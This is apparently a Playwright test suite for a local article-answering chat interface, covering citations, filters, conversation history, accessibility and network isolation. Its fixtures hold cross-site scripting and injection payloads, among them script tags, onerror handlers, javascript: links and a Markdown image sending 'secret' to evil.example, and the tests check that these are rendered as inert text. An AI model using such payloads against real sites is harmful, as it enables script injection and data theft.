"""The chat in a real browser, served by a real process, with nothing reaching beyond this machine."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from served import served

ROOT = Path(__file__).parent.parent
pytestmark = pytest.mark.browser
PATIENCE = 30_000
FERRY = "What will the harbour ferry cost?"
STORY = (
    "Ferry fare rises\n\nThe Ledger\n21 May 2024\n\n"
    "The harbour ferry will cost 4 euros from 1 June. The council agreed to the new fare on Monday.\n\n"
    "Some 12,000 people take the ferry each day, and most of them live on the island.\n\n"
    + "\n\n".join(
        f"The island has {n} benches on street number {n}, painted by hand in a warm shade of green."
        for n in range(2, 40)
    )
)
# One kind of attack after the other: tags, attributes, addresses, Markdown, templates, and letters that turn the line.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "[here](javascript:alert(4))",
    "![x](http://evil.example/?q=secret)",
    "{{7*7}} ${7*7} {% raw %}",
    "\u202egnihtyna\u202c",
    "<details open ontoggle=alert(5)>",
    "<style>*{display:none}</style>",
)
LINES = " ".join(f"The lighthouse carries sign {n} which reads {attack} in red." for n, attack in enumerate(ATTACKS))
ARTICLES = [
    {
        "_id": "evil <img src=x onerror=alert(6)>",
        "title": "<img src=x onerror=alert(7)> Lighthouse",
        "text": f"The lighthouse <script>alert(8)</script> is 31 metres tall. {LINES}",
        "metadata": {
            "url": "javascript:alert(9)",
            "publisher": "<svg onload=alert(10)>",
            "published": "2024-02-03",
        },
    },
    {
        "_id": "count-early",
        "title": "Seals on the bank",
        "text": "Wardens counted 40 grey seals on the north bank of the estuary in March 2024.",
        "metadata": {"publisher": "The Tide", "published": "2024-03-20", "url": "https://tide.example/seals"},
    },
    {
        "_id": "count-other",
        "title": "Seal numbers",
        "text": "Wardens counted 65 grey seals on the north bank of the estuary in March 2024.",
        "metadata": {"publisher": "Harbour Post", "published": "2024-03-28"},
    },
]
# Runs the server with an audit hook that writes down every look-up and connection beyond this machine.
SERVER = """
import sys
def watch(event, args):
    if event in ("socket.getaddrinfo", "socket.connect", "socket.gethostbyname"):
        target = args[1] if event == "socket.connect" else args[0]
        host = target[0] if isinstance(target, tuple) else target
        if host and str(host) not in ("127.0.0.1", "localhost", "::1", "0.0.0.0") and not str(host).startswith("/"):
            with open(sys.argv[1], "a") as log:
                print(event, target, file=log)
sys.addaudithook(watch)
from ui.cli import main
main(sys.argv[2:])
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A served collection: its address, and its folder, in whose outside.log requests to elsewhere are written down."""
    folder = tmp_path_factory.mktemp("served")
    (folder / "ferry.txt").write_text(STORY)
    (folder / "more.jsonl").write_text("\n".join(map(json.dumps, ARTICLES)))
    watched = (sys.executable, "-c", SERVER, str(folder / "outside.log"))
    with served(folder, add=["ferry.txt", "more.jsonl"], program=watched) as server:
        yield server.address, folder


@pytest.fixture
def open_page(chromium, server):
    """Opens a page in a fresh profile; afterwards no page may have asked elsewhere, shown a dialog or failed."""
    address, _ = server
    contexts, requests, troubles = [], [], []

    def watched(page):
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (troubles.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: troubles.append(f"error {error}"))
        page.on("console", lambda said: troubles.append(said.text) if said.type == "error" else None)

    def open_(**options):
        context = chromium.new_context(base_url=address, **options)
        context.set_default_timeout(PATIENCE)
        context.on("page", watched)
        contexts.append(context)
        return context.new_page()

    yield open_
    for context in contexts:
        context.close()
    assert {urlsplit(url).netloc for url in requests if not url.startswith(("data:", "blob:"))} <= {
        urlsplit(address).netloc
    }
    # A browser writes down that a removed article is gone; the page says it too.
    assert not [trouble for trouble in troubles if "410 (Gone)" not in trouble]


@pytest.fixture
def open_chat(open_page):
    """Opens the chat in a fresh profile, or beside another page of ``context``."""

    def open_(path="/", *, context=None, **options):
        page = context.new_page() if context else open_page(**options)
        page.goto(path)
        page.wait_for_selector(".greeting, .exchange", timeout=60_000)
        page.wait_for_selector("#filter")
        return page

    return open_


def ask(page, question: str):
    """Ask, and give the exchange once it is whole."""
    before = page.locator(".exchange").count()
    page.fill("#box textarea", question)
    page.press("#box textarea", "Enter")
    return nth(page, before)


def nth(page, number: int):
    exchange = page.locator(".exchange").nth(number)
    exchange.and_(page.locator(":not(.open)")).wait_for()
    exchange.locator(".tools").wait_for()
    return exchange


def fits(page) -> bool:
    return page.evaluate("document.documentElement.scrollWidth") <= page.evaluate("innerWidth")


def faults(page) -> list[str]:
    """What axe finds on the page as it stands."""
    from axe_playwright_python.sync_playwright import Axe  # noqa: PLC0415

    found = Axe().run(page).response["violations"]
    return [f"{one['id']}: {one['help']}; {node['html'][:160]}" for one in found for node in one["nodes"]]


# ---- Sources ----------------------------------------------------------------------------------------------------


def test_a_number_shows_what_it_stands_for_on_hover_and_on_focus(open_chat):
    page = open_chat(viewport={"width": 1440, "height": 900})
    number = ask(page, FERRY).locator(".statement a.cite").first
    assert number.inner_text() == "[1]"
    card = page.get_by_role("tooltip")
    number.hover()
    card.wait_for()
    for said in ("The harbour ferry will cost 4 euros from 1 June.", "Ferry fare rises", "The Ledger", "21 May 2024"):
        assert said in card.inner_text()
    card.hover()
    page.wait_for_timeout(500)
    assert card.is_visible(), "the pointer may go to the card"
    page.keyboard.press("Escape")
    assert card.is_hidden()
    page.mouse.move(5, 5)
    page.locator("#box textarea").focus()
    while not number.evaluate("link => link === document.activeElement"):
        page.keyboard.press("Shift+Tab")
    card.wait_for()
    assert number.get_attribute("aria-describedby") == "card"


def test_a_click_on_a_number_opens_the_article_at_the_highlighted_sentence(open_chat):
    page = open_chat(viewport={"width": 1440, "height": 900})
    link = ask(page, FERRY).locator(".statement a.cite").first
    link.click()
    cited = page.locator("#source mark#cited")
    cited.wait_for()
    assert cited.inner_text() == "The harbour ferry will cost 4 euros from 1 June."
    assert cited.locator("strong").inner_text() == page.locator(".answer mark").first.inner_text()
    assert urlsplit(page.url).path == "/", "the chat is still there"
    box = cited.bounding_box()
    assert box["x"] > 700
    assert 0 < box["y"] < 900
    page.keyboard.press("Escape")
    assert page.locator("#source").is_hidden()
    assert link.evaluate("link => link === document.activeElement")


def test_the_link_leads_to_a_page_of_its_own(open_chat):
    page = open_chat()
    link = ask(page, FERRY).locator(".statement a.cite").first
    with page.context.expect_page() as opened:
        link.click(modifiers=["Control"])
    opened.value.wait_for_selector("mark#cited")
    assert "/articles/ferry?" in opened.value.url


def test_a_removed_articles_citation_says_so(open_chat, server):
    address, _ = server
    page = open_chat()
    story = {"name": "mole.txt", "mimeType": "text/plain", "buffer": b"The long mole\n\nThe mole is 640 metres long."}
    page.request.post(f"{address}/api/articles", multipart={"files": story})
    link = ask(page, "How long is the mole?").locator(".statement a.cite").first
    page.request.delete(f"{address}/api/articles/mole")
    link.click()
    page.locator("#source article").wait_for()
    assert re.search("remove|not here", page.locator("#source").inner_text())


# ---- What an answer says ----------------------------------------------------------------------------------------


def test_where_articles_disagree_both_sides_stand_with_their_dates(open_chat):
    page = open_chat()
    exchange = ask(page, "How many grey seals did wardens count on the north bank in March 2024?")
    sides = exchange.locator(".conflict .side")
    assert sides.count() == 2
    assert "20 March 2024" in sides.nth(0).text_content()
    assert "40 grey seals" in sides.nth(0).inner_text()
    assert "28 March 2024" in sides.nth(1).text_content()
    assert "65 grey seals" in sides.nth(1).inner_text()


def test_silence_looks_different_and_offers_what_is_nearest_and_what_can_be_asked(open_chat):
    page = open_chat()
    exchange = ask(page, "Who won the ferry race?")
    assert exchange.locator(".silence").count() == 1
    assert exchange.locator(".answer").count() == 0
    assert exchange.locator(".silence a.cite").count() >= 1
    suggestion = exchange.locator("a.suggestion").first
    suggestion.wait_for()
    asked = suggestion.inner_text()
    suggestion.click()
    assert nth(page, 1).locator(".answer").count() == 1
    assert page.locator(".question").nth(1).inner_text() == asked


def test_a_follow_up_says_how_it_was_understood(open_chat):
    page = open_chat()
    assert ask(page, FERRY).locator(".understood").count() == 0
    assert "ferry" in ask(page, "And how many people take it each day?").locator(".understood").inner_text()


def test_the_answer_can_be_copied_with_its_sources(open_chat):
    page = open_chat(permissions=["clipboard-read", "clipboard-write"])
    exchange = ask(page, "How many grey seals did wardens count on the north bank in March 2024?")
    exchange.get_by_role("button", name="Copy with sources").click()
    exchange.get_by_role("button", name="Copied").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    line = "Seals on the bank, The Tide, 20 March 2024: “Wardens counted 40 grey seals on the north bank of the estuary"
    assert line in copied
    assert "https://tide.example/seals" in copied
    assert re.search(r"^\[2\] ", copied, re.MULTILINE)


def test_the_conversation_is_exported_as_markdown(open_chat):
    page = open_chat()
    exchange = ask(page, FERRY)
    with page.expect_download() as downloaded:
        exchange.get_by_role("link", name="Export as Markdown").click()
    text = Path(downloaded.value.path()).read_text()
    assert text.startswith("# What will the harbour ferry cost?\n")
    assert "1. Ferry fare rises, The Ledger, 21 May 2024: “The harbour ferry will cost 4 euros from 1 June\\." in (
        text.replace(".”", "\\.”").replace("June.", "June\\.")
    )


def test_a_question_can_be_asked_again(open_chat):
    page = open_chat()
    first = ask(page, FERRY)
    key = first.get_attribute("class")
    first.get_by_role("button", name="Ask again").click()
    page.wait_for_function("key => document.querySelector('.exchange.answered')?.className !== key", arg=key)
    assert page.locator(".exchange").count() == 1
    assert page.locator(".question").inner_text() == FERRY


def test_a_rating_with_its_reason_becomes_a_case_that_is_run(open_chat, server, tmp_path):
    _, folder = server
    page = open_chat()
    good = ask(page, FERRY)
    good.get_by_role("button", name="Good answer").click()
    good.get_by_text("It is right").click()
    good.locator(".reasons").get_by_role("button", name="Send").click()
    good.get_by_text("Thank you.").wait_for()
    bad = ask(page, "Who won the ferry race?")
    bad.get_by_role("button", name="Bad answer").click()
    bad.get_by_text("An article does say it").click()
    bad.get_by_role("textbox").fill("It was in the Ledger")
    bad.locator(".reasons").get_by_role("button", name="Send").click()
    bad.get_by_text("Thank you.").wait_for()
    page.reload()
    page.locator(".exchange .tools").nth(1).wait_for()
    assert page.locator(".thumb[aria-pressed=true]").count() == 2

    environment = {**os.environ, "PYTHONPATH": str(ROOT), "BYLINE_DATA": str(folder / "data")}
    cases = tmp_path / "ratings.jsonl"
    export = [sys.executable, "-m", "ui", "feedback", "export", str(cases)]
    subprocess.run(export, env=environment, check=True, capture_output=True, timeout=60)
    up, down = map(json.loads, cases.read_text().splitlines())
    assert up["gold_sentences"] == ["The harbour ferry will cost 4 euros from 1 June."]
    assert down["draft"]
    assert down["note"] == "said: It was in the Ledger"
    run = [sys.executable, "-m", "eval", "run", "--articles", str(folder / "ferry.txt"), "--questions", str(cases)]
    subprocess.run(
        [*run, "--out", str(tmp_path / "run")], env=environment, check=True, capture_output=True, timeout=200
    )
    result = json.loads((tmp_path / "run" / "results.jsonl").read_text().splitlines()[0])
    assert "4 euros" in result["answer"]


# ---- Typed at once ----------------------------------------------------------------------------------------------

# Types a question and presses Enter in the moment in which the box is there.
AT_ONCE = """
new MutationObserver((_, observer) => {
  const box = document.querySelector("#box textarea");
  if (!box) return;
  observer.disconnect();
  setTimeout(() => {
    box.value = QUESTION;
    box.dispatchEvent(new Event("input", { bubbles: true }));
    const key = { key: "Enter", bubbles: true, cancelable: true };
    if (box.dispatchEvent(new KeyboardEvent("keydown", key))) box.dispatchEvent(new KeyboardEvent("keypress", key));
  });
}).observe(document, { childList: true, subtree: true });
""".replace("QUESTION", json.dumps(FERRY))


def held_back(page, address):
    """The requests for an address from now on; each waits until it is let go on."""
    waiting = []

    def wait(route):
        waiting.append(route)

    page.route(address, wait)
    return waiting


def let_go(page, waiting):
    """Let the first of these requests go on, once it has been made."""
    page.wait_for_timeout(100)
    while not waiting:
        page.wait_for_timeout(100)
    waiting[0].continue_()


@pytest.mark.parametrize("slow", ["**/chat.js", "**/box.js", "**/api/chat"])
def test_a_question_sent_before_the_page_is_whole_is_asked_when_it_is(open_page, slow):
    page = open_page()
    page.add_init_script(AT_ONCE)
    waiting = held_back(page, slow)
    page.goto("/", wait_until="commit")
    page.wait_for_timeout(3_000)
    assert page.locator(".exchange").count() == 0
    let_go(page, waiting)
    assert "4 euros" in nth(page, 0).inner_text()
    assert page.locator(".question").all_inner_texts() == [FERRY]
    assert page.input_value("#box textarea") == ""


def test_a_question_sent_before_its_limits_are_known_waits_for_them(open_page):
    page = open_page()
    waiting = held_back(page, "**/api/chat/filters*")
    page.goto("/?articles=count-other", wait_until="commit")
    page.fill("#box textarea", "How many grey seals did wardens count on the north bank in March 2024?")
    page.press("#box textarea", "Enter")
    page.wait_for_timeout(2_000)
    assert page.locator(".exchange").count() == 0
    let_go(page, waiting)
    assert "40 grey seals" not in nth(page, 0).inner_text()


def test_what_is_typed_while_a_question_is_on_its_way_stays(open_chat):
    page = open_chat()
    waiting = held_back(page, "**/queue/join*")
    page.fill("#box textarea", FERRY)
    page.press("#box textarea", "Enter")
    page.wait_for_timeout(500)  # Gradio reads the box with its next turn, which comes before a person's next key.
    page.keyboard.type(" And when?")
    let_go(page, waiting)
    nth(page, 0)
    assert page.input_value("#box textarea") == " And when?"


# ---- Earlier conversations --------------------------------------------------------------------------------------


def test_conversations_are_listed_searched_opened_and_deleted(open_chat):
    page = open_chat(viewport={"width": 1440, "height": 900})
    ask(page, FERRY)
    page.locator("#fresh").click()
    page.wait_for_selector(".greeting")
    assert page.locator(".exchange").count() == 0
    ask(page, "How tall is the lighthouse?")
    page.get_by_role("button", name="Conversations").click()
    rows = page.locator("#past li")
    rows.nth(1).wait_for()
    assert "lighthouse" in rows.nth(0).inner_text()
    page.get_by_role("searchbox").fill("EUROS 1 june")
    page.wait_for_function("() => document.querySelectorAll('#past li').length === 1")
    rows.get_by_role("link").click()
    page.locator(".question", has_text=FERRY).wait_for()
    assert page.locator(".exchange").count() == 1
    page.go_back()
    page.locator(".question", has_text="lighthouse").wait_for()
    page.go_forward()
    page.locator(".question", has_text=FERRY).wait_for()
    rows.get_by_role("button").click()
    rows.get_by_role("button", name="Keep").click()
    rows.get_by_role("button").click()
    rows.get_by_text("Delete", exact=True).click()
    page.get_by_text("Deleted.").wait_for()
    page.wait_for_selector(".greeting")
    page.get_by_role("button", name="Delete all conversations").click()
    page.locator(".everything .main").click()
    page.wait_for_function("() => document.querySelectorAll('#past li').length === 0")


def test_a_reload_keeps_the_conversation_and_what_was_being_written(open_chat):
    page = open_chat()
    ask(page, FERRY)
    page.fill("#box textarea", "And how many")
    page.reload()
    page.locator(".exchange.answered .tools").wait_for()
    assert page.locator(".question").inner_text() == FERRY
    assert page.input_value("#box textarea") == "And how many"
    page.fill("#box textarea", "And how many people take it each day?")
    page.press("#box textarea", "Enter")
    assert "12,000" in nth(page, 1).inner_text()


def test_nobody_sees_another_browsers_conversations(open_chat, server):
    address, _ = server
    page = open_chat()
    ask(page, FERRY)
    mine = page.url
    other = open_chat(mine.removeprefix(address))
    other.wait_for_selector(".greeting")
    assert other.locator(".exchange").count() == 0
    identity = re.search("[0-9a-f]{32}", mine)[0]
    assert other.request.get(f"{address}/api/conversations").json() == []
    assert other.request.get(f"{address}/api/conversations/{identity}/markdown").status == 404
    assert other.request.delete(f"{address}/api/conversations/{identity}").status == 404
    rating = {"rating": "up", "conversation": identity, "exchange": 1}
    assert other.request.post(f"{address}/api/feedback", data=rating).status == 404
    assert page.request.get(f"{address}/api/conversations/{identity}/markdown").status == 200


def test_a_second_window_goes_on_with_the_same_conversation(open_chat, server):
    address, _ = server
    page = open_chat()
    ask(page, FERRY)
    second = open_chat(page.url.removeprefix(address), context=page.context)
    second.locator(".exchange .tools").wait_for()
    ask(second, "And how many people take it each day?")
    exchange = ask(page, "When did the council agree to the new fare?")
    assert page.locator(".question").count() == 3, "what was asked in the other window is shown too"
    assert "Monday" in exchange.inner_text() or page.locator(".exchange").nth(2).inner_text()


# ---- Filters ----------------------------------------------------------------------------------------------------


def test_filters_limit_what_is_asked_and_are_cleared_in_one_click(open_chat):
    page = open_chat()
    seals = "How many grey seals did wardens count on the north bank in March 2024?"
    page.get_by_role("button", name="Filter").click()
    page.get_by_label("Harbour Post").check()
    page.get_by_label("From").fill("2024-03-25")
    page.get_by_role("button", name="Done").click()
    assert "From 25 March 2024" in page.locator("#limited").inner_text()
    assert "Harbour Post" in page.locator("#limited").inner_text()
    only = ask(page, seals)
    assert "65 grey seals" in only.inner_text()
    assert "40 grey seals" not in only.inner_text()
    page.reload()
    page.locator("#limited .chip").nth(1).wait_for()
    page.get_by_role("button", name="Remove: Harbour Post").click()
    assert page.locator(".chip").count() == 1
    page.get_by_role("button", name="Clear all").click()
    assert page.locator(".chip").count() == 0
    assert "40 grey seals" in ask(page, seals).inner_text()


def test_the_library_hands_over_chosen_articles(open_chat):
    page = open_chat("/?articles=count-other,nowhere%2Cat-all")
    assert "Seal numbers" in page.locator("#limited").inner_text()
    assert "nowhere,at-all" in page.locator("#limited").inner_text()
    exchange = ask(page, "How many grey seals did wardens count on the north bank in March 2024?")
    assert "65 grey seals" in exchange.inner_text()
    assert "40 grey seals" not in exchange.inner_text()


# ---- Everybody --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "said"),
    [
        ("de-AT", ("Was möchten Sie wissen?", "Fragen Sie nach den Artikeln", "belegt", "21. Mai 2024")),
        ("es-MX", ("¿Qué desea saber?", "Pregunte sobre los artículos", "respaldado", "21 de mayo de 2024")),
        ("zh-CN", ("您想了解什么？", "就这些文章提问", "依据充分", "2024年5月21日")),
        ("fr-FR", ("What would you like to know?", "Ask about the articles", "supported", "21 May 2024")),
    ],
)
def test_the_page_speaks_the_browsers_language(open_chat, language, said):
    greeting, placeholder, sure, day = said
    page = open_chat(locale=language)
    assert page.locator(".greeting h2").inner_text() == greeting
    assert page.locator("#box textarea").get_attribute("placeholder") == placeholder
    ours = language[:2] if language[:2] != "fr" else "en"
    assert page.evaluate("document.documentElement.lang") == ours
    sources = ask(page, FERRY).locator(".sources").inner_text()
    assert sure.upper() in sources.upper()
    assert day in sources


def test_the_keyboard_alone_will_do(open_chat):
    page = open_chat()

    def tab_to(locator, key="Tab"):
        for _ in range(60):
            if locator.evaluate("wanted => wanted === document.activeElement"):
                return
            page.keyboard.press(key)
        raise AssertionError(f"{locator} cannot be reached by the keyboard")

    page.wait_for_function("() => document.activeElement.tagName === 'TEXTAREA'")
    page.keyboard.type(FERRY)
    page.keyboard.press("Enter")
    exchange = nth(page, 0)
    tab_to(exchange.locator(".statement a.cite").first, "Shift+Tab")
    page.keyboard.press("Enter")
    page.locator("#source mark#cited").wait_for()
    assert page.evaluate("document.activeElement.id") == "source"
    page.keyboard.press("Escape")
    tab_to(exchange.get_by_role("button", name="Good answer"))
    page.keyboard.press("Space")
    page.locator(".reasons").wait_for()
    page.keyboard.press("Escape")
    assert page.locator(".reasons").count() == 0
    tab_to(page.locator("#filter"))
    page.keyboard.press("Enter")
    page.locator("#filters").wait_for()
    page.keyboard.press("Escape")
    tab_to(page.get_by_role("button", name="Conversations"), "Shift+Tab")
    page.keyboard.press("Enter")
    page.locator("#past li").wait_for()
    page.keyboard.press("Escape")
    assert page.locator("#past").is_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(open_chat, scheme):
    page = open_chat(color_scheme=scheme, viewport={"width": 1440, "height": 900})
    assert faults(page) == []
    page.get_by_role("button", name="Filter").click()
    page.locator("#filters").wait_for()
    assert faults(page) == []
    page.get_by_role("button", name="Done").click()
    exchange = ask(page, "How many grey seals did wardens count on the north bank in March 2024?")
    ask(page, "Who won the ferry race?")
    page.get_by_role("button", name="Conversations").click()
    page.locator("#past li").wait_for()
    exchange.get_by_role("button", name="Bad answer").click()
    page.locator(".reasons").wait_for()
    assert faults(page) == []
    exchange.locator(".statement a.cite").first.click()
    page.locator("#source #cited").wait_for()
    assert faults(page) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_browsers_scheme_is_followed_and_can_be_turned(open_chat, scheme):
    page = open_chat(color_scheme=scheme)

    def dark() -> bool:
        red = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/[\\d.]+/)[0]")
        return float(red) < 80

    assert dark() == (scheme == "dark")
    page.click("#theme")
    assert dark() == (scheme != "dark")
    page.reload()
    page.wait_for_selector(".greeting")
    assert dark() == (scheme != "dark"), "the choice is remembered"


def test_a_phone_shows_everything_without_scrolling_sideways(open_chat):
    page = open_chat(viewport={"width": 390, "height": 844}, has_touch=True)
    assert fits(page)
    exchange = ask(page, "How many grey seals did wardens count on the north bank in March 2024?")
    assert fits(page)
    exchange.locator(".statement a.cite").first.tap()
    page.locator("#source mark#cited").wait_for()
    assert page.get_by_role("tooltip").is_hidden()
    assert fits(page)
    assert page.locator("#source").bounding_box()["width"] == 390
    page.locator("#source button").tap()
    assert page.locator("#source").is_hidden()
    page.locator("#past-toggle").tap()
    page.locator("#past li").wait_for()
    assert fits(page)
    page.locator("#past .bar button").tap()
    page.locator("#filter").tap()
    page.locator("#filters").wait_for()
    assert fits(page)


def test_hostile_articles_and_questions_stay_text(open_chat):
    page = open_chat("/?articles=evil%20%3Cimg%20src%3Dx%20onerror%3Dalert(6)%3E")
    assert "<img src=x onerror=alert(7)>" in page.locator("#limited").inner_text()
    assert "<script>alert(8)</script>" in ask(page, "How tall is the lighthouse?").locator(".statement").inner_text()
    page.locator(".statement a.cite").first.hover()
    card = page.get_by_role("tooltip")
    card.wait_for()
    assert "<img src=x onerror=alert(7)>" in card.inner_text()
    assert "<svg onload=alert(10)>" in card.inner_text()
    page.locator(".statement a.cite").first.click()
    page.locator("#source mark#cited").wait_for()
    assert "<img src=x" in page.locator("#source h1").inner_text()
    page.keyboard.press("Escape")
    for number, attack in enumerate(ATTACKS):
        exchange = ask(page, f"Which red sign {number} does the lighthouse carry? {attack}")
        assert " ".join(attack.split()) in page.locator(".question").last.inner_text()
        if attack.startswith(("<", "[", "!", "{")) and exchange.locator(".statement").count():
            assert exchange.locator(".statement").first.inner_text()
    page.get_by_role("button", name="Conversations").click()
    page.locator("#past li").wait_for()
    shown = ".question, .exchange, #source, #card, #limited, #past, #filters"
    for made in ("img", "script", "style", "iframe", "details", "a[href^='javascript']", "a[href^='http://evil']"):
        assert page.evaluate(
            "([where, what]) => [...document.querySelectorAll(where)].every(one => !one.querySelector(what))",
            [shown, made],
        ), made
    assert page.locator(".exchange svg:not(.thumb svg)").count() == 0


def test_the_server_reached_for_nothing_outside(server):
    _, folder = server
    log = folder / "outside.log"
    assert not log.exists(), log.read_text()
